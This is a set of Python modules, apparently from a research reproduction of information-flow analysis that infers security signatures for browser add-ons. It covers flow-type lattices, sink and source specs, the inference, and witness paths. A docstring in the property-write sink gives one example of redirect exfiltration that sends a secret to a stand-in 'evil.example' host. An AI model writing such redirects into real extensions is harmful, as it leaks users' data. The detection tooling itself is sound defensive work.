nonlocexp^amp) = type6``, ``extend(type3, nonlocexp^amp) = type5``, and
``max({type4, type5, type6}) = {type4, type5}``.

The paper notes the lattice is "independently configurable"; a custom
:class:`FlowTypeLattice` can reorder the ranks or re-key the annotations.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from repro.pdg.annotations import Annotation


class FlowType(enum.Enum):
    """One of the eight flow types of Figure 4."""

    TYPE1 = "type1"
    TYPE2 = "type2"
    TYPE3 = "type3"
    TYPE4 = "type4"
    TYPE5 = "type5"
    TYPE6 = "type6"
    TYPE7 = "type7"
    TYPE8 = "type8"

    def __str__(self) -> str:
        return self.value


#: The paper's lattice: flow type -> (rank, keyed annotation).
DEFAULT_STRUCTURE: dict[FlowType, tuple[int, Annotation]] = {
    FlowType.TYPE1: (0, Annotation.DATA_STRONG),
    FlowType.TYPE2: (1, Annotation.DATA_WEAK),
    FlowType.TYPE3: (2, Annotation.LOCAL_AMP),
    FlowType.TYPE4: (3, Annotation.LOCAL),
    FlowType.TYPE5: (3, Annotation.NONLOC_EXP_AMP),
    FlowType.TYPE6: (4, Annotation.NONLOC_EXP),
    FlowType.TYPE7: (4, Annotation.NONLOC_IMP_AMP),
    FlowType.TYPE8: (5, Annotation.NONLOC_IMP),
}


@dataclass
class FlowTypeLattice:
    """The flow-type lattice, with the ``extend``/``max`` operations of
    Section 4.2. Instantiate with a custom ``structure`` to reconfigure
    perceived strengths."""

    structure: dict[FlowType, tuple[int, Annotation]] = field(
        default_factory=lambda: dict(DEFAULT_STRUCTURE)
    )
    # ``extend`` runs in the flow-type fixpoint's inner loop (once per
    # edge-annotation per flow type); its result depends only on the
    # lattice structure, which is fixed after construction, so it is
    # memoized per instance. At most |FlowType| x |Annotation| entries.
    _extend_cache: dict[tuple[FlowType, Annotation], FlowType] = field(
        default_factory=dict, init=False, repr=False, compare=False
    )
    _covering_cache: dict[frozenset[Annotation], FlowType] = field(
        default_factory=dict, init=False, repr=False, compare=False
    )

    def rank(self, flow_type: FlowType) -> int:
        return self.structure[flow_type][0]

    def annotation_of(self, flow_type: FlowType) -> Annotation:
        return self.structure[flow_type][1]

    def stronger_or_equal(self, left: FlowType, right: FlowType) -> bool:
        """left ≥ right in the lattice (left is stronger)."""
        if left is right:
            return True
        return self.rank(left) < self.rank(right)

    def allowed_annotations(self, flow_type: FlowType) -> frozenset[Annotation]:
        """The PDG annotations a flow of this type may traverse: the
        annotations of every type at or above it."""
        return frozenset(
            annotation
            for other, (_rank, annotation) in self.structure.items()
            if self.stronger_or_equal(other, flow_type)
        )

    def extend(self, flow_type: FlowType, annotation: Annotation) -> FlowType:
        """The strongest flow type whose allowed annotations include both
        the given type's annotations and ``annotation``."""
        cached = self._extend_cache.get((flow_type, annotation))
        if cached is not None:
            return cached
        needed = self.allowed_annotations(flow_type) | {annotation}
        best: FlowType | None = None
        for candidate in sorted(self.structure, key=self.rank):
            if needed <= self.allowed_annotations(candidate):
                best = candidate
                break
        if best is None:  # pragma: no cover - TYPE8 allows everything
            best = self.weakest()
        self._extend_cache[(flow_type, annotation)] = best
        return best

    def covering_type(self, annotations: frozenset[Annotation]) -> FlowType:
        """The strongest flow type whose allowed annotations cover
        ``annotations`` (ties at a rank go to the first in rank order,
        exactly as ``extend`` breaks them). ``extend(t, a)`` is
        ``covering_type(allowed(t) | {a})``; calling this on the *exact*
        set of annotations a path uses avoids the over-approximation
        chained ``extend`` calls build up (an edge a type merely
        *allows* is not an edge the path *used*)."""
        cached = self._covering_cache.get(annotations)
        if cached is not None:
            return cached
        best = self.weakest()
        for candidate in sorted(self.structure, key=self.rank):
            if annotations <= self.allowed_annotations(candidate):
                best = candidate
                break
        self._covering_cache[annotations] = best
        return best

    def max(self, flow_types: set[FlowType]) -> set[FlowType]:
        """The strongest flow types of a set (an antichain: types not
        dominated by any other member)."""
        return {
            flow_type
            for flow_type in flow_types
            if not any(
                other is not flow_type
                and self.stronger_or_equal(other, flow_type)
                for other in flow_types
            )
        }

    def weakest(self) -> FlowType:
        return max(self.structure, key=self.rank)

    def strongest(self) -> FlowType:
        return min(self.structure, key=self.rank)

    def validate(self) -> None:
        """Check that a (possibly user-supplied) lattice structure is
        usable by the inference:

        - all eight flow types present, each keyed to a distinct
          annotation (so every PDG edge maps to exactly one type),
        - a unique strongest type (the seed of the fixpoint) and a unique
          weakest type (so ``extend`` is total).

        Raises ``ValueError`` with a precise message otherwise.
        """
        if set(self.structure) != set(FlowType):
            missing = set(FlowType) - set(self.structure)
            raise ValueError(f"lattice must map all flow types; missing {missing}")
        annotations = [annotation for _rank, annotation in self.structure.values()]
        if len(set(annotations)) != len(Annotation):
            raise ValueError(
                "lattice must key each flow type to a distinct annotation"
            )
        ranks = sorted(rank for rank, _ in self.structure.values())
        if ranks.count(ranks[0]) != 1:
            raise ValueError("lattice must have a unique strongest flow type")
        if ranks.count(ranks[-1]) != 1:
            raise ValueError("lattice must have a unique weakest flow type")


#: The lattice the paper uses (Figure 4).
DEFAULT_LATTICE = FlowTypeLattice()
