"""Security signatures (Section 4): flow types, specs, inference,
and comparison against manual signatures."""

from repro.signatures.compare import (
    Comparison,
    Verdict,
    compare,
    entry_covers,
    subsumes,
)
from repro.signatures.explain import FlowWitness, explain_all, explain_flow
from repro.signatures.taint import implicit_only_flows, infer_taint_signature
from repro.signatures.flowtypes import (
    DEFAULT_LATTICE,
    FlowType,
    FlowTypeLattice,
)
from repro.signatures.inference import (
    InferenceDetail,
    flow_types_from,
    infer_signature,
    top_entries,
    widen_detail,
)
from repro.signatures.signature import (
    ApiEntry,
    Entry,
    FlowEntry,
    Signature,
    parse_entry,
    parse_signature,
)
from repro.signatures.spec import (
    ApiSink,
    CallSource,
    DomainRule,
    NetworkSink,
    PropertySource,
    PropertyWriteSink,
    SecuritySpec,
    SinkSpec,
    SourceSpec,
)

__all__ = [
    "FlowType",
    "FlowTypeLattice",
    "DEFAULT_LATTICE",
    "Signature",
    "Entry",
    "FlowEntry",
    "ApiEntry",
    "parse_entry",
    "parse_signature",
    "SecuritySpec",
    "SourceSpec",
    "PropertySource",
    "PropertyWriteSink",
    "CallSource",
    "SinkSpec",
    "NetworkSink",
    "DomainRule",
    "ApiSink",
    "infer_signature",
    "flow_types_from",
    "InferenceDetail",
    "compare",
    "Comparison",
    "Verdict",
    "entry_covers",
    "subsumes",
    "top_entries",
    "widen_detail",
    "explain_flow",
    "explain_all",
    "FlowWitness",
    "infer_taint_signature",
    "implicit_only_flows",
]
