"""Security signatures (Figure 3): the analysis's output artifact.

::

    sign  ::= entry*
    entry ::= src --type--> sink | sink
    src   ::= url | key | geoloc | ...
    sink  ::= send(Pre) | scriptloader | ...

A :class:`FlowEntry` records one interesting information flow with its
flow type and, for network sinks, the inferred domain as a prefix-domain
element. An :class:`ApiEntry` records usage of an interesting API (the
"special case of information flow" of Section 4.1).

The textual format round-trips (``render`` / ``parse_entry``), which is
how the benchmark corpus stores its manually-written signatures:

- ``url -type1-> send(toolbarqueries.google.com)`` — exact domain;
- ``url -type2-> send(www.example.com/req?...)`` — domain prefix;
- ``key -type3-> send(*)`` — unknown domain;
- ``use(scriptloader)`` — API usage.

The textual forms ``...``/``…`` (trailing) and ``*``/``⊥`` are reserved
markers: an *exact* domain ending in those cannot be distinguished from
the prefix/top/bottom notation when re-parsed. No URL ends that way in
practice; the round-trip property holds for all other domains.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from repro.domains import prefix as prefix_domain
from repro.domains.prefix import Prefix
from repro.signatures.flowtypes import FlowType


@dataclass(frozen=True)
class FlowEntry:
    """One ``src --type--> sink`` entry."""

    source: str
    flow_type: FlowType
    sink: str
    domain: Prefix | None = None

    def render(self) -> str:
        return f"{self.source} -{self.flow_type}-> {_render_sink(self.sink, self.domain)}"


@dataclass(frozen=True)
class ApiEntry:
    """One interesting-API usage entry. ``domain`` carries the inferred
    network domain when the API is a network sink used without any
    interesting source flowing into it (e.g. Chess.comNotifier's
    ``send(chess.com)``)."""

    api: str
    domain: Prefix | None = None

    def render(self) -> str:
        return _render_sink(self.api, self.domain)


Entry = FlowEntry | ApiEntry


@dataclass(frozen=True)
class Signature:
    """A set of entries."""

    entries: frozenset[Entry] = frozenset()

    def render(self) -> str:
        return "\n".join(sorted(entry.render() for entry in self.entries))

    @property
    def flows(self) -> frozenset[FlowEntry]:
        return frozenset(e for e in self.entries if isinstance(e, FlowEntry))

    @property
    def apis(self) -> frozenset[ApiEntry]:
        return frozenset(e for e in self.entries if isinstance(e, ApiEntry))

    def __iter__(self):
        return iter(sorted(self.entries, key=lambda e: e.render()))

    def __len__(self) -> int:
        return len(self.entries)


def _render_sink(sink: str, domain: Prefix | None) -> str:
    if domain is None:
        return sink
    return f"{sink}({_render_domain(domain)})"


def _render_domain(domain: Prefix) -> str:
    if domain.is_bottom:
        return "⊥"
    if domain.is_top:
        return "*"
    assert domain.text is not None
    return domain.text if domain.is_exact else domain.text + "..."


def _parse_domain(text: str) -> Prefix:
    text = text.strip()
    if text == "*":
        return prefix_domain.TOP
    if text == "⊥":
        return prefix_domain.BOTTOM
    if text.endswith("..."):
        return prefix_domain.prefix(text[:-3])
    if text.endswith("…"):
        return prefix_domain.prefix(text[:-1])
    return prefix_domain.exact(text)


_FLOW_RE = re.compile(
    r"^(?P<source>[\w.$-]+)\s*-\s*(?P<type>type[1-8])\s*->\s*"
    r"(?P<sink>[\w.$-]+)(?:\((?P<domain>[^)]*)\))?$"
)
_API_RE = re.compile(r"^(?P<api>[\w.$-]+)(?:\((?P<domain>[^)]*)\))?$")


def parse_entry(text: str) -> Entry:
    """Parse one entry in the textual format (inverse of ``render``)."""
    text = text.strip()
    match = _FLOW_RE.match(text)
    if match is not None:
        domain = match.group("domain")
        return FlowEntry(
            source=match.group("source"),
            flow_type=FlowType(match.group("type")),
            sink=match.group("sink"),
            domain=_parse_domain(domain) if domain is not None else None,
        )
    match = _API_RE.match(text)
    if match is not None:
        domain = match.group("domain")
        return ApiEntry(
            api=match.group("api"),
            domain=_parse_domain(domain) if domain is not None else None,
        )
    raise ValueError(f"unparseable signature entry: {text!r}")


def parse_signature(text: str) -> Signature:
    """Parse a multi-line signature (blank lines and ``#`` comments
    ignored)."""
    entries: set[Entry] = set()
    for line in text.splitlines():
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        entries.add(parse_entry(line))
    return Signature(entries=frozenset(entries))
