"""Security specifications: which sources, sinks, and APIs are
"interesting" (Section 4.1).

The set is an input to the analysis ("in our implementation we have used
the sources, sinks, and APIs considered interesting by the Mozilla
vetting team ... but they are easily configurable"). A
:class:`SecuritySpec` bundles:

- **sources** — matchers that recognize the IR statements *reading* an
  interesting value (e.g. a property read of ``location.href`` on the
  browser-window stub, a key-event property on the event object);
- **sinks** — matchers for statements sending data out (e.g. the
  ``xhr.send`` native call), optionally extracting the network domain
  (as a prefix-domain element) from the analysis state;
- **apis** — native tags whose *usage* should be reported regardless of
  what flows into them (script loaders, ``eval``-family, deprecated
  APIs).

The concrete Mozilla-flavored spec lives in :mod:`repro.browser.env`;
these classes are environment-agnostic.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.analysis.interpreter import AnalysisResult
from repro.domains import prefix as prefix_domain
from repro.domains.prefix import Prefix
from repro.ir.nodes import CallStmt, ConstructStmt, LoadPropStmt


@dataclass(frozen=True)
class PropertySource:
    """A source matched by reading property ``prop`` of an object whose
    heap representation carries native tag ``object_tag``."""

    name: str
    object_tag: str
    props: frozenset[str]

    def matching_statements(self, result: AnalysisResult) -> set[int]:
        matches: set[int] = set()
        for (sid, context) in result.nodes_of_type(LoadPropStmt):
            stmt = result.program.stmts[sid]
            state = result.states[(sid, context)]
            base = result.atom_value(sid, context, stmt.obj)
            name = result.atom_value(sid, context, stmt.prop).to_property_name()
            if not any(name.admits(prop) for prop in self.props):
                continue
            for address in base.addresses:
                if (
                    state.heap.contains(address)
                    and state.heap.get(address).native == self.object_tag
                ):
                    matches.add(sid)
                    break
        return matches


@dataclass(frozen=True)
class CallSource:
    """A source matched by calling a native with one of the given tags
    (e.g. a clipboard-read API)."""

    name: str
    tags: frozenset[str]

    def matching_statements(self, result: AnalysisResult) -> set[int]:
        return _call_sites_with_tags(result, self.tags)


def _call_sites_with_tags(result: AnalysisResult, tags: frozenset[str]) -> set[int]:
    """Call statements that may invoke a native carrying one of ``tags``
    (shared by the call-source and interesting-API matchers)."""
    matches: set[int] = set()
    seen: set[int] = set()
    for (sid, _context) in result.nodes_of_type(CallStmt, ConstructStmt):
        if sid in seen:
            continue
        seen.add(sid)
        if result.callee_native_tags(sid) & tags:
            matches.add(sid)
    return matches


@dataclass(frozen=True)
class ChannelSource:
    """A source matched at an event loop that dispatches handlers of one
    of the given message channels (``repro.webext``).

    Message payloads are attacker-influenced (a content script relays
    page data; ``onMessageExternal`` is reachable from arbitrary web
    pages via ``externally_connectable``), so the *loop statement* —
    where the payload enters the receiving component as the handler's
    parameters — is the source site. ``surface`` names the syntactic
    identifiers an addon must mention to ever register such a handler;
    the relevance prefilter intersects them with the addon surface.
    """

    name: str
    channels: frozenset[str]
    surface: frozenset[str] = frozenset({"onMessage", "onMessageExternal"})

    def matching_statements(self, result: AnalysisResult) -> set[int]:
        return {
            sid
            for sid, channels in result.loop_channels.items()
            if channels & self.channels
        }

    def surface_names(self) -> frozenset[str]:
        return self.surface


SourceSpec = PropertySource | CallSource | ChannelSource


@dataclass(frozen=True)
class DomainRule:
    """How to recover the network domain at a sink call.

    ``kind`` is ``"arg"`` (the domain is the string value of argument
    ``arg_index`` — e.g. ``xhr.open(method, url)``), ``"this_prop"``
    (the domain was stashed on the receiver by an earlier stub — e.g.
    ``xhr.send()`` reads the URL recorded by ``open``), or
    ``"args_prop"`` (the domain is property ``prop`` of any object
    argument — e.g. ``chrome.tabs.create({url: ...})``).
    """

    kind: str
    arg_index: int = 0
    prop: str = "%url"


@dataclass(frozen=True)
class NetworkSink:
    """A network-send sink: calls to natives carrying one of the rule
    tags. The transmitted domain is recovered per the tag's rule as a
    prefix-domain element — the ``Pre`` parameter of ``send(Pre)`` in the
    signature grammar of Figure 3."""

    name: str
    rules: tuple[tuple[str, DomainRule], ...]

    def tag_rules(self) -> dict[str, DomainRule]:
        return dict(self.rules)

    def matching_statements(self, result: AnalysisResult) -> dict[int, Prefix]:
        """sink statement id -> inferred network domain."""
        rules = self.tag_rules()
        matches: dict[int, Prefix] = {}
        for (sid, context) in result.nodes_of_type(CallStmt, ConstructStmt):
            stmt = result.program.stmts[sid]
            state = result.states[(sid, context)]
            callee = result.atom_value(sid, context, stmt.callee)
            hit_rules = []
            for address in callee.addresses:
                if not state.heap.contains(address):
                    continue
                tag = state.heap.get(address).native
                if tag in rules:
                    hit_rules.append(rules[tag])
            if not hit_rules:
                continue
            domain = matches.get(sid, prefix_domain.BOTTOM)
            for rule in hit_rules:
                domain = domain.join(self._extract(result, state, stmt, sid, context, rule))
            matches[sid] = domain
        return matches

    @staticmethod
    def _extract(result, state, stmt, sid, context, rule: DomainRule) -> Prefix:
        if rule.kind == "arg":
            if rule.arg_index < len(stmt.args):
                value = result.atom_value(sid, context, stmt.args[rule.arg_index])
                return value.to_property_name()
            return prefix_domain.BOTTOM
        if rule.kind == "args_prop":
            domain = prefix_domain.BOTTOM
            for arg in stmt.args:
                value = result.atom_value(sid, context, arg)
                if not value.addresses:
                    continue
                domain = domain.join(
                    state.heap.read(
                        value.addresses, prefix_domain.exact(rule.prop)
                    ).string
                )
            return domain
        assert rule.kind == "this_prop"
        if isinstance(stmt, ConstructStmt) or stmt.this is None:
            return prefix_domain.BOTTOM
        receiver = result.atom_value(sid, context, stmt.this)
        if not receiver.addresses:
            return prefix_domain.BOTTOM
        return state.heap.read(
            receiver.addresses, prefix_domain.exact(rule.prop)
        ).string


@dataclass(frozen=True)
class PropertyWriteSink:
    """A sink matched by *writing* a property of a tagged native object.

    The canonical instance is redirect-based exfiltration: assigning
    ``content.location.href = "https://evil.example/?u=" + secret``
    sends the secret over the network without any XHR — a channel the
    call-based ``send`` sink cannot see. The written value's string part
    doubles as the network domain (a prefix-domain element).
    """

    name: str
    object_tag: str
    props: frozenset[str]

    def matching_statements(self, result: AnalysisResult) -> dict[int, Prefix]:
        from repro.ir.nodes import StorePropStmt

        matches: dict[int, Prefix] = {}
        for (sid, context) in result.nodes_of_type(StorePropStmt):
            stmt = result.program.stmts[sid]
            state = result.states[(sid, context)]
            name = result.atom_value(sid, context, stmt.prop).to_property_name()
            if not any(name.admits(prop) for prop in self.props):
                continue
            base = result.atom_value(sid, context, stmt.obj)
            hit = any(
                state.heap.contains(address)
                and state.heap.get(address).native == self.object_tag
                for address in base.addresses
            )
            if not hit:
                continue
            domain = result.atom_value(sid, context, stmt.value).to_property_name()
            previous = matches.get(sid, prefix_domain.BOTTOM)
            matches[sid] = previous.join(domain)
        return matches


@dataclass(frozen=True)
class ApiSink:
    """An interesting-API sink: any call of a native with these tags is
    reported (script injection, deprecated APIs, ...)."""

    name: str
    tags: frozenset[str]

    def matching_statements(self, result: AnalysisResult) -> set[int]:
        return _call_sites_with_tags(result, self.tags)


#: Anything usable as a data-carrying sink: exposes
#: ``matching_statements(result) -> dict[sid, Prefix]``.
SinkSpec = NetworkSink | PropertyWriteSink


@dataclass
class SecuritySpec:
    """The full "interesting things" configuration."""

    sources: list[SourceSpec] = field(default_factory=list)
    sinks: list[SinkSpec] = field(default_factory=list)
    apis: list[ApiSink] = field(default_factory=list)

    def source_names(self) -> list[str]:
        return [source.name for source in self.sources]
