"""Signature inference (Section 4.2) — phase P3 of the pipeline.

For each interesting source, a fixpoint over the annotated PDG computes
``FlowType(v)``: the strongest set of flow types with which information
from the source can reach statement ``v`` — the types admitting some
source-to-``v`` path whose edge annotations all lie in the type's
allowed set (the path-based specification behind the paper's

    FlowType(v) = max( ⋃_{v' --ann--> v}  { extend(t, ann) | t ∈ FlowType(v') } )

equation; see ``flow_types_from`` for why the fixpoint propagates
annotation sets rather than chaining ``extend`` directly). The signature collects, at every
interesting sink, one entry per member of the sink's flow-type set, plus

- a bare ``send(Pre)`` entry for each network sink used *without* any
  interesting inbound flow (the category-C pattern: the addon talks to a
  domain but reveals nothing interesting — e.g. Chess.comNotifier), and
- one API-usage entry per interesting API that some reachable call may
  invoke (script loaders, deprecated APIs).
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass

from repro.analysis.interpreter import AnalysisResult
from repro.domains import prefix as prefix_domain
from repro.pdg.graph import PDG
from repro.signatures.flowtypes import DEFAULT_LATTICE, FlowType, FlowTypeLattice
from repro.signatures.signature import ApiEntry, Entry, FlowEntry, Signature
from repro.signatures.spec import SecuritySpec


def flow_types_from(
    pdg: PDG,
    sources: set[int],
    lattice: FlowTypeLattice = DEFAULT_LATTICE,
) -> dict[int, set[FlowType]]:
    """The FlowType fixpoint for one source (set of source statements).

    Returns the flow-type antichain for every PDG statement reachable
    from the sources; unreachable statements are absent.

    The fixpoint propagates the ⊆-minimal *sets of annotations used*
    along some source-to-``v`` path, and only converts them to flow
    types at the end (``covering_type``). Propagating flow types
    directly — ``extend`` chained edge by edge — is unsound against the
    paper's path-based specification: a type's allowed-annotation set
    over-approximates what its path actually used, so a later edge can
    be forced past a type the real path satisfies (e.g. local ∘
    nonlocexp^amp ∘ nonlocimp^amp would report type8 when a type7 path
    exists, because ``extend`` had committed to type6's unused
    nonlocexp allowance). Annotation sets carry exactly the path
    history, so the final types are the strongest the spec admits.

    Uses the PDG's cached successor index, so the (per-source) fixpoints
    of one inference all share a single adjacency build.
    """
    adjacency = pdg.successor_index()

    empty: frozenset = frozenset()
    used: dict[int, set[frozenset]] = {source: {empty} for source in sources}
    worklist: deque[int] = deque(sources)
    queued = set(sources)
    while worklist:
        node = worklist.popleft()
        queued.discard(node)
        current = used[node]
        for target, annotations in adjacency.get(node, ()):
            contribution: set[frozenset] = set()
            for path_annotations in current:
                for annotation in annotations:
                    contribution.add(path_annotations | {annotation})
            merged = _minimal_sets(used.get(target, set()) | contribution)
            if merged != used.get(target):
                used[target] = merged
                if target not in queued:
                    queued.add(target)
                    worklist.append(target)
    return {
        node: lattice.max({
            lattice.covering_type(path_annotations)
            for path_annotations in annotation_sets
        })
        for node, annotation_sets in used.items()
    }


def _minimal_sets(sets: set[frozenset]) -> set[frozenset]:
    """The ⊆-minimal elements: a superset admits every flow type its
    subset admits, so only minimal annotation histories matter."""
    return {
        candidate
        for candidate in sets
        if not any(other < candidate for other in sets)
    }


@dataclass
class InferenceDetail:
    """The signature plus per-entry provenance for reporting/debugging."""

    signature: Signature
    #: entry -> sink statement ids that produced it.
    provenance: dict[Entry, set[int]]
    #: source name -> source statement ids.
    source_statements: dict[str, set[int]]


def infer_signature(
    result: AnalysisResult,
    pdg: PDG,
    spec: SecuritySpec,
    lattice: FlowTypeLattice = DEFAULT_LATTICE,
) -> InferenceDetail:
    """Infer the security signature of an analyzed addon."""
    entries: dict[Entry, set[int]] = {}
    source_statements: dict[str, set[int]] = {}

    def record(entry: Entry, sid: int) -> None:
        entries.setdefault(entry, set()).add(sid)

    # Pre-match every sink once.
    network_sinks = [
        (sink, sink.matching_statements(result)) for sink in spec.sinks
    ]

    # Information-flow entries, one fixpoint per source. A sink in the
    # signature grammar is ``send(Pre)`` — identified by name and domain,
    # not by statement — so flow types are aggregated per (source, sink,
    # domain) and reduced with ``max`` before becoming entries.
    sinks_with_flows: set[int] = set()
    grouped: dict[tuple[str, str, object], tuple[set[FlowType], set[int]]] = {}
    for source in spec.sources:
        sids = source.matching_statements(result)
        # Several matchers may share a source name (e.g. "url" covers
        # both location and nsIURI reads): accumulate, don't overwrite.
        source_statements.setdefault(source.name, set()).update(sids)
        if not sids:
            continue
        flow = flow_types_from(pdg, sids, lattice)
        for sink, matches in network_sinks:
            for sink_sid, domain in matches.items():
                if sink_sid in sids:
                    continue  # a statement is not its own sink
                types = flow.get(sink_sid)
                if not types:
                    continue
                sinks_with_flows.add(sink_sid)
                key = (source.name, sink.name, domain)
                bucket = grouped.setdefault(key, (set(), set()))
                bucket[0].update(types)
                bucket[1].add(sink_sid)
    for (source_name, sink_name, domain), (types, sids_hit) in grouped.items():
        for flow_type in lattice.max(types):
            for sink_sid in sids_hit:
                record(
                    FlowEntry(source_name, flow_type, sink_name, domain),
                    sink_sid,
                )

    # Bare sink entries: network communication with no interesting flow.
    # A sink statement is covered when it carries a flow itself, or when
    # a flow entry already reports the same sink with the same domain
    # (e.g. the XHRWrapper(...) setup call next to the send that leaks).
    flow_covered_domains = {
        (entry.sink, entry.domain)
        for entry in entries
        if isinstance(entry, FlowEntry)
    }
    for sink, matches in network_sinks:
        for sink_sid, domain in matches.items():
            if sink_sid in sinks_with_flows:
                continue
            if (sink.name, domain) in flow_covered_domains:
                continue
            record(ApiEntry(sink.name, domain), sink_sid)

    # Interesting-API usage.
    for api in spec.apis:
        for sid in api.matching_statements(result):
            record(ApiEntry(api.name), sid)

    signature = Signature(entries=frozenset(entries))
    return InferenceDetail(
        signature=signature,
        provenance=entries,
        source_statements=source_statements,
    )


# ----------------------------------------------------------------------
# Graceful degradation (salvage mode)


def top_entries(
    spec: SecuritySpec, lattice: FlowTypeLattice = DEFAULT_LATTICE
) -> frozenset[Entry]:
    """The ⊤ signature of a spec: the most alarming claim expressible.

    One flow entry per (source, sink) pair at the strongest flow type
    with the ⊤ domain, one bare-sink entry per sink with the ⊤ domain,
    and one usage entry per interesting API. Under the signature
    subsumption order (:func:`repro.signatures.compare.subsumes`) this
    covers *every* entry any run could infer against the same spec,
    which is what makes it the sound fallback for degraded runs.
    """
    entries: set[Entry] = set()
    strongest = lattice.strongest()
    for source in spec.sources:
        for sink in spec.sinks:
            entries.add(
                FlowEntry(source.name, strongest, sink.name, prefix_domain.TOP)
            )
    for sink in spec.sinks:
        entries.add(ApiEntry(sink.name, prefix_domain.TOP))
    for api in spec.apis:
        entries.add(ApiEntry(api.name))
    return frozenset(entries)


def widen_detail(
    detail: InferenceDetail,
    spec: SecuritySpec,
    lattice: FlowTypeLattice = DEFAULT_LATTICE,
) -> InferenceDetail:
    """Widen an inference result to ⊤ over the spec (salvage mode).

    A degraded analysis may have missed flows, so its inferred entries
    alone would be unsound. The widened signature keeps what *was*
    inferred (still useful for triage) and adds the spec's ⊤ entries,
    making the total a sound over-approximation of any complete run.
    """
    extra = top_entries(spec, lattice) - set(detail.provenance)
    provenance = dict(detail.provenance)
    for entry in extra:
        provenance[entry] = set()
    return InferenceDetail(
        signature=Signature(entries=detail.signature.entries | extra),
        provenance=provenance,
        source_statements=detail.source_statements,
    )
