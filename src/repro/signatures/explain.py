"""Flow witnesses: explain *how* an inferred flow happens.

A signature entry tells the vetter that ``url`` reaches ``send`` with,
say, type3 — but when triaging, the next question is always "through
which statements?". :func:`explain_flow` produces a witness: one
shortest PDG path from a source statement to a sink statement using only
the edges the entry's flow type permits, rendered with source lines and
edge annotations.

This is the vetting aid the signature formalism makes cheap: the path is
evidence the vetter can check directly against the addon source.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass

from repro.pdg.annotations import Annotation
from repro.pdg.graph import PDG
from repro.signatures.flowtypes import DEFAULT_LATTICE, FlowTypeLattice
from repro.signatures.inference import InferenceDetail
from repro.signatures.signature import FlowEntry


@dataclass(frozen=True)
class WitnessStep:
    """One PDG edge on a witness path.

    For multi-file extensions the endpoints carry their component name
    (``repro.webext``): line numbers restart per component file, so a
    cross-component witness is ambiguous without the tags — and the tag
    flip *is* the interesting part of a message-flow witness (the hop
    where attacker data crossed from content script to background).
    """

    source_sid: int
    source_line: int
    annotation: Annotation
    target_sid: int
    target_line: int
    source_component: str | None = None
    target_component: str | None = None

    def render(self) -> str:
        return (
            f"line {self.source_line:>3}{_tag(self.source_component)} "
            f"--{self.annotation}--> "
            f"line {self.target_line}{_tag(self.target_component)}"
        )


def _tag(component: str | None) -> str:
    return f" [{component}]" if component else ""


@dataclass
class FlowWitness:
    """A full source-to-sink path for one flow entry."""

    entry: FlowEntry
    steps: list[WitnessStep]

    def render(self) -> str:
        lines = [f"witness for: {self.entry.render()}"]
        lines.extend(f"  {step.render()}" for step in self.steps)
        return "\n".join(lines)

    @property
    def lines(self) -> list[int]:
        if not self.steps:
            return []
        path = [self.steps[0].source_line]
        path.extend(step.target_line for step in self.steps)
        return path


def explain_flow(
    pdg: PDG,
    detail: InferenceDetail,
    entry: FlowEntry,
    lattice: FlowTypeLattice = DEFAULT_LATTICE,
) -> FlowWitness | None:
    """Find a shortest witness path for ``entry``, or None if the entry
    does not belong to ``detail`` (or no path survives the filter)."""
    sink_sids = detail.provenance.get(entry)
    source_sids = detail.source_statements.get(entry.source)
    if not sink_sids or not source_sids:
        return None
    allowed = lattice.allowed_annotations(entry.flow_type)

    # BFS over the allowed sub-PDG, remembering the annotation taken.
    adjacency: dict[int, list[tuple[int, Annotation]]] = {}
    for (source, target), annotations in pdg.edges.items():
        permitted = annotations & allowed
        if permitted:
            # Prefer the strongest annotation for display.
            best = min(permitted, key=lambda a: _display_rank(a, lattice))
            adjacency.setdefault(source, []).append((target, best))

    parents: dict[int, tuple[int, Annotation]] = {}
    queue: deque[int] = deque(sorted(source_sids))
    visited = set(source_sids)
    found: int | None = None
    while queue:
        node = queue.popleft()
        if node in sink_sids and node not in source_sids:
            found = node
            break
        for target, annotation in adjacency.get(node, ()):  # noqa: B020
            if target not in visited:
                visited.add(target)
                parents[target] = (node, annotation)
                queue.append(target)
    if found is None:
        return None

    steps: list[WitnessStep] = []
    walker = found
    program = pdg.program
    while walker in parents:
        parent, annotation = parents[walker]
        steps.append(
            WitnessStep(
                source_sid=parent,
                source_line=program.stmts[parent].line,
                annotation=annotation,
                target_sid=walker,
                target_line=program.stmts[walker].line,
                source_component=program.component_of(parent),
                target_component=program.component_of(walker),
            )
        )
        walker = parent
    steps.reverse()
    return FlowWitness(entry=entry, steps=steps)


def _display_rank(annotation: Annotation, lattice: FlowTypeLattice) -> int:
    for flow_type, (rank, keyed) in lattice.structure.items():
        if keyed is annotation:
            return rank
    return 99


def explain_all(
    pdg: PDG, detail: InferenceDetail, lattice: FlowTypeLattice = DEFAULT_LATTICE
) -> list[FlowWitness]:
    """Witnesses for every flow entry of a signature (sorted for
    deterministic output)."""
    witnesses = []
    for entry in sorted(detail.signature.flows, key=lambda e: e.render()):
        witness = explain_flow(pdg, detail, entry, lattice)
        if witness is not None:
            witnesses.append(witness)
    return witnesses
