"""The crash-consistent store layer shared by every durable artifact.

A store-scale vetting deployment writes constantly — outcome cache
entries, version chains, job journals, bench reports — and the store's
own failures (a killed daemon, a full disk, a torn rename) must never
turn into corrupt reads later. Before this layer existed every durable
artifact hand-rolled its own ``tempfile.mkstemp`` + ``os.replace``
dance (or worse, a bare ``write_text``); this package extracts the
discipline once:

- :mod:`repro.store.atomic` — tmp-file + fsync + atomic-rename writes
  (:func:`atomic_write_text` / :func:`atomic_write_json` /
  :func:`atomic_write_bytes`): a reader either sees the old bytes or
  the new bytes, never a prefix;
- :mod:`repro.store.journal` — an append-only, checksum-framed journal
  (:class:`Journal`) with replay that tolerates a torn tail (the
  SIGKILL-mid-append case) and quarantines corrupt records instead of
  crashing;
- :mod:`repro.store.kv` — :class:`JsonStore`, a sharded (or flat)
  key→JSON-document store with atomic publishes, corrupt-entry
  quarantine (``<key>.corrupt``), and an LRU size bound so 100k-addon
  catalogs do not grow caches without limit;
- :mod:`repro.store.fsck` — the recovery scan (:func:`fsck_store`):
  sweep stale tmp files, quarantine undecodable entries, and report
  what was repaired.

The batch outcome cache (:mod:`repro.batch`) and the diffvet
:class:`~repro.diffvet.store.VersionStore` are both built on
:class:`JsonStore`; the vetting service's durable job queue
